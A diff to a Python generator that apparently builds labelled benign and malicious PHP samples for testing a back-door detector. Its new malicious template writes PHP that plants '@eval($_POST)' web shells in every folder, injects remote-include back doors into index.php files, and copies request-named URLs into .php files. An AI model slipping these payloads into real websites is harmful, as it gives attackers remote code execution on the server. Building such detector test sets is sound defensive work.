@@ -534,6 +534,53 @@ def t_ssh_escaped_once(g, php_file):
     return php_file(g, _fn_wrap(g, "%s = %s;\nexec(%s, $out);\n" % (x, _input(g), line)))
 
 
+def b_page_writer(g, php_file):
+    """An application that lists a folder, then writes a page of its own (a template
+    that reads the request to pick its frame or language) and copies its own named
+    pages from one folder to another."""
+    r = g.rng
+    form = r.choice(["fwrite", "put", "copy"])
+    g.transforms.add("page:" + form)
+    walk = r.choice(["$d = opendir('./lang/');\nwhile ($e = readdir($d)) {\n    $langs[] = $e;\n}\nclosedir($d);\n",
+                     "$langs = scandir(__DIR__ . '/lang');\n", "$langs = glob(__DIR__ . '/lang/*', GLOB_ONLYDIR);\n"])
+    page = ("\"<?php if (empty(\\$framed) and empty(\\$_GET['framed'])) { ?>\" . $head . "
+            "\"<?php } ?>\\n<?php echo htmlspecialchars(\\$_GET['lang'] ?? 'en'); ?>\" . $body")
+    pre = "$head = '<html><body>';\n$body = '</body></html>';\n$name = page_name($lang) . '.php';\n"
+    if form == "fwrite":
+        w = "$fh = fopen(\"$dir/$name\", 'w');\nfwrite($fh, %s);\nfclose($fh);\n" % page
+    elif form == "put":
+        w = "file_put_contents($dir . '/' . $name, %s);\n" % page
+    else:
+        w = ("$from = $_POST['from_dir'];\n$to = $_POST['to_dir'];\n"
+             "if (is_dir($from) && is_dir($to) && $from != $to) {\n"
+             "    copy(\"$from/availability.php\", \"$to/availability.php\");\n"
+             "    copy($from . '/booking_form.php', $to . '/booking_form.php');\n}\n")
+    return php_file(g, "function page_name($l)\n{\n    return 'mdl_' . preg_replace('/[^a-z]/', '', $l);\n}\n"
+                    "$dir = template_dir();\n$lang = 'en';\n" + walk + pre + w)
+
+
+def t_walk_writer(g, php_file):
+    """The same walk and write carrying code that runs something, or aimed at the
+    index.php of every folder, or fetching the code by a URL the request names."""
+    r = g.rng
+    form = r.choice(["strong", "index", "prepend", "copy_url", "copy_url_txt"])
+    g.transforms.add("walkw:" + form)
+    if form == "copy_url":
+        return php_file(g, "copy($_GET['u'], __DIR__ . '/' . $_GET['n'] . '.php');\n")
+    if form == "copy_url_txt":
+        return php_file(g, "copy($_POST['src'] . '/s.txt', __DIR__ . '/wp-cache.php');\n")
+    walk = r.choice(["foreach (scandir($root) as $e) {\n", "foreach (glob($root . '/*', GLOB_ONLYDIR) as $e) {\n"])
+    code = "'<?php @eval($_POST[\"p\"]); ?>'"
+    if form == "strong":
+        w = "    file_put_contents($root . '/' . basename($e) . '/cache.php', %s);\n" % code
+    elif form == "index":
+        w = "    file_put_contents($root . '/' . basename($e) . '/index.php', '<?php if (isset($_GET[\"x\"])) { include $_GET[\"x\"]; } ?>');\n"
+    else:
+        w = ("    $f = $root . '/' . basename($e) . '/index.php';\n"
+             "    file_put_contents($f, '<?php if (isset($_GET[\"x\"])) { include $_GET[\"x\"]; } ?>' . file_get_contents($f));\n")
+    return php_file(g, "$root = $_SERVER['DOCUMENT_ROOT'];\n" + walk + w + "}\n")
+
+
 def benign_templates(php_file):
     """The (name, fn, class, lang, expect) rows, each fn bound to php_file."""
     def bind(fn):
@@ -550,6 +597,7 @@ def benign_templates(php_file):
         ("cache_export", bind(b_cache_export), "benign", "php", "none"),
         ("upload_checked", bind(b_upload_checked), "benign", "php", "none"),
         ("inline_asset", bind(b_inline_asset), "benign", "php", "none"),
+        ("page_writer", bind(b_page_writer), "benign", "php", "none"),
         ("argv_command", bind(t_argv_command), "malicious", "php", "high"),
         ("escape_no_protect", bind(t_escape_no_protect), "malicious", "php", "high"),
         # an injection in an admin tool's ssh line, not a back door: found, medium
@@ -557,6 +605,7 @@ def benign_templates(php_file):
         ("ssh_escaped_once", bind(t_ssh_escaped_once), "malicious", "php", "any"),
         ("code_write", bind(t_code_write), "malicious", "php", "high"),
         ("tpl_infector", bind(t_tpl_infector), "malicious", "php", "high"),
+        ("walk_writer", bind(t_walk_writer), "malicious", "php", "high"),
         ("upload_unchecked", bind(t_upload_unchecked), "malicious", "php", "high"),
     ]
 
